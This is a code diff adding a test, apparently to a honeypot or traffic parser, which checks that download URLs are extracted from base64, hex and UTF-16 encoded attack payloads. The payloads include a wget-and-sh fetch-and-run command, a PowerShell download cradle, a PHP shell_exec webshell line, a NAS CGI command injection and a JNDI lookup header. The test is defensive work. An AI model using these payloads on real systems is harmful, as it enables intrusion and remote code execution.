@@ -51,6 +51,23 @@ describe('what is written down', () => {
     }
   })
 
+  test('what is to be fetched, told in base64', async () => {
+    const order = 'wget http://192.0.2.7/x -O /tmp/x;sh /tmp/x'
+    const coded = Buffer.from(order).toString('base64')
+    const wide = Buffer.from('IEX (New-Object Net.WebClient).DownloadString("http://192.0.2.7/x")', 'utf16le')
+    const urls = async (sent: string) => (await say(sent)).of('fileDownload').map(({ url }) => url)
+    for (const sent of [
+      `GET /cgi-bin/nas_sharing.cgi?user=messagebus&passwd=&cmd=15&system=${encodeURIComponent(coded)} HTTP/1.1\r\nHost: h\r\n\r\n`,
+      post('/a.php', 'text/plain', `<?php shell_exec(base64_decode("${coded}"));`),
+      post('/a.jsp', 'application/x-www-form-urlencoded', `cmd=${encodeURIComponent(coded)}`),
+      post('/a.aspx', 'text/plain', `powershell -enc ${wide.toString('base64')}`),
+      post('/a.php', 'text/plain', Buffer.from(order).toString('hex')),
+    ])
+      assert.deepEqual(await urls(sent), ['http://192.0.2.7/x'], sent.slice(0, 60))
+    const plain = Buffer.from('see http://192.0.2.7/x for more').toString('base64')
+    assert.deepEqual(await urls(post('/a', 'text/plain', plain)), [], 'a link is none')
+  })
+
   test('a request that is turned away, as far as it can be read', async () => {
     const { of, heard } = await say('GET /a b HTTP/1.1\r\nHost: h\r\nX: ${jndi:ldap://192.0.2.1/a}\r\n\r\n')
     assert.match(heard, /^HTTP\/1.1 400 /)
